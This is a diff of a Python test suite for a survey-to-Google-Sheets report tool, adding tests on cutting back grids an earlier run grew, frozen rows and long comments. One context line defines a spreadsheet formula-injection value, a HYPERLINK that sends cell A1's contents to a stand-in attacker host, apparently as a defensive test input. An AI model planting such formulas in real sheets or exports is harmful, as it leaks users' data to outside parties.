@@ -29,7 +29,9 @@ T0 = datetime(2026, 11, 18, 9, 0, tzinfo=UTC)
 FORMULA_COMMENT = '=HYPERLINK("https://evil.example/?"&A1,"click")'
 
 
-def seed(kit, agents: int = 30, per_agent: int = 7) -> list[str]:
+def seed(kit, agents: int = 30, per_agent: int = 7, comment: Any = None) -> list[str]:
+    """``agents`` agents' surveys, ``per_agent`` answered each; ``comment(a, i)``: the
+    comment of agent ``a``'s answer ``i`` (by default ``comment a/i``)."""
     rows = [EN_HEADER]
     tokens_ = []
     for a in range(agents):
@@ -42,9 +44,8 @@ def seed(kit, agents: int = 30, per_agent: int = 7) -> list[str]:
                 created=T0 - timedelta(days=i),
             )
             tokens_.append(token)
-            rows.append(
-                [T0 + timedelta(hours=i), 1 + (a + i) % 5, f"comment {a}/{i}", "", "", token]
-            )
+            text = (comment(a, i) if comment else None) or f"comment {a}/{i}"
+            rows.append([T0 + timedelta(hours=i), 1 + (a + i) % 5, text, "", "", token])
     kit.responses(rows)
     return tokens_
 
@@ -831,17 +832,21 @@ def test_a_lists_grid_over_twice_what_it_is_given_is_cut_back_and_one_under_is_l
     assert after["Summary"] == given["Summary"] + 500  # lists no answers: left
     assert kit.sheet("Agent 00 (100)") == before
     assert len(listed(kit.sheet("Responses"))) == 16
-    # Cut back once: a run with nothing new then sends nothing.
-    writes = kit.fake.count("sheets_write")
+    # Cut back once: the next run that writes leaves the grids as they are.
+    again = kit.survey("T-again", "102", "Agent 02")
+    kit.fake.append_rows(SHEET_ID, "Form Responses 1", [[T0, 5, "again", "", "", again]])
     assert kit.run().status == "ok"
-    assert kit.fake.count("sheets_write") == writes
+    assert grids(kit) == after
+    assert len(listed(kit.sheet("Responses"))) == 17
 
 
-def test_blank_rows_of_grids_an_earlier_run_grew_do_not_make_the_report_list_fewer(kit):
+@pytest.mark.parametrize("refused", [False, True])
+def test_blank_rows_of_grids_an_earlier_run_grew_do_not_make_the_report_list_fewer(kit, refused):
     """Lists' grids an earlier run left larger, under twice what they are given (kept as
     they are while the values fit), made values that fit two requests without their blank
     rows not fit with them: fewer answers were listed, and a lower limit did not help. The
-    grids are cut back to what they are given first, and every answer is listed."""
+    grids are cut back to what they are given first, and every answer is listed; also when
+    the structure write is refused once (planned again, the grids still cut back)."""
     seed(kit, agents=50, per_agent=30)
     config = kit.config(
         output={"gsheets": {"max_request_bytes": 100_000, "max_response_rows": 200}}
@@ -855,6 +860,8 @@ def test_blank_rows_of_grids_an_earlier_run_grew_do_not_make_the_report_list_few
         kit.fake.tab(SHEET_ID, title).rows = 2 * given[title] - 1
     later = kit.survey("T-later", "149", "Agent 49")  # a run writes only a new report
     kit.fake.append_rows(SHEET_ID, "Form Responses 1", [[T0, 4, "later", "", "", later]])
+    if refused:
+        kit.fake.fail(1, 503, "sheets_write")  # not applied: its outcome unknown to us
     summary = kit.run(config)
 
     assert summary.status == "ok", summary.error
@@ -867,6 +874,67 @@ def test_blank_rows_of_grids_an_earlier_run_grew_do_not_make_the_report_list_few
     assert len(listed(kit.sheet("Agent 07 (107)"))) == 30
     assert len(listed(kit.sheet("Agent 49 (149)"))) == 31
     assert len(listed(kit.sheet("Responses"))) == 200
+
+
+def test_blank_rows_of_grids_an_earlier_run_grew_go_before_any_comment_is_cut(kit):
+    """Values that fit two requests with their long comments whole, but not with the blank
+    rows of grids an earlier run grew: the grids are cut back, and no comment is cut."""
+    seed(
+        kit,
+        agents=50,
+        per_agent=30,
+        comment=lambda a, i: "w" * 3_000 if i == 0 and a < 30 else None,
+    )
+    config = kit.config(
+        output={"gsheets": {"max_request_bytes": 150_000, "max_response_rows": 200}}
+    )
+    first = kit.run(config)
+    assert first.status == "ok", first.error
+    assert "texts_cut" not in first.outputs[-1]
+    given = grids(kit)
+    lists = [t for t in given if t.startswith("Agent") or t == "Responses"]
+    for title in lists:
+        kit.fake.tab(SHEET_ID, title).rows = 2 * given[title] - 1
+    later = kit.survey("T-later", "149", "Agent 49")
+    kit.fake.append_rows(SHEET_ID, "Form Responses 1", [[T0, 4, "later", "", "", later]])
+    summary = kit.run(config)
+
+    assert summary.status == "ok", summary.error
+    assert "texts_cut" not in summary.outputs[-1], summary.outputs[-1]
+    assert not [w for w in summary.warnings if "cut to" in w]
+    assert grids(kit)["Agent 00 (100)"] == given["Agent 00 (100)"]
+    assert "w" * 3_000 in [row[3] for row in kit.sheet("Agent 00 (100)")]
+
+
+def test_a_shorter_listing_that_moves_by_a_row_leaves_the_lists_grids_as_they_are(kit):
+    """A report listing fewer answers lists a few more or fewer as answers come in: each
+    list's grid stays within twice what it is given, with no cut sent for each move."""
+    seed(kit, agents=50, per_agent=40)
+    config = kit.config(output={"gsheets": {"max_request_bytes": 100_000}})
+    rows_listed(kit.run(config))
+    given = grids(kit)
+    for n in range(3):
+        token = kit.survey(f"T-more-{n}", "149", "Agent 49")
+        kit.fake.append_rows(SHEET_ID, "Form Responses 1", [[T0, 4, "more", "", "", token]])
+        rows_listed(kit.run(config))
+        assert all(rows >= given[title] for title, rows in grids(kit).items()), n
+
+
+def test_a_lists_grid_is_never_cut_into_its_frozen_rows(kit):
+    """Google refuses a grid with no row but frozen ones ("You can't freeze all visible
+    rows"), and a person may freeze more rows than the looks do: a cut keeps them and one
+    more, and the run is written."""
+    seed(kit, agents=3, per_agent=5)
+    assert kit.run().status == "ok"
+    kit.fake.tab(SHEET_ID, "Responses").rows = 3_000
+    kit.fake.tab(SHEET_ID, "Responses").frozen_rows = 40
+    later = kit.survey("T-later", "102", "Agent 02")
+    kit.fake.append_rows(SHEET_ID, "Form Responses 1", [[T0, 4, "later", "", "", later]])
+    summary = kit.run()
+
+    assert summary.status == "ok", summary.error
+    assert grids(kit)["Responses"] == 41
+    assert len(listed(kit.sheet("Responses"))) == 16
 
 
 def test_a_grid_an_earlier_run_grew_is_cut_back_when_the_cells_would_not_fit(kit):
